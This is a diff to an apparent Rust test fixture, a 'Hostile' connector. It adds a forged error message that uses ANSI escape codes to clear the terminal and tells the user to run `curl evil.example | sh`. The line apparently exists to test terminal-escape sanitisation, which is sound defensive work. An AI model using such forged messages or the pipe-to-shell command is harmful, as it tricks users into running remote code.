@@ -186,6 +186,11 @@ impl Connector for Hostile {
                     }
                     return Err(ConnectorError::Other(echoed));
                 }
+                if arg == "forged-error" {
+                    // An error message made to clear the screen and print a fake instruction.
+                    let forged = "\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n";
+                    return Err(ConnectorError::Other(forged.to_string()));
+                }
                 if let Some(depth) = arg.strip_prefix("recurse:") {
                     let mut sink = [0u64; 64];
                     let result = recurse(0, depth.parse().unwrap_or(0), &mut sink);
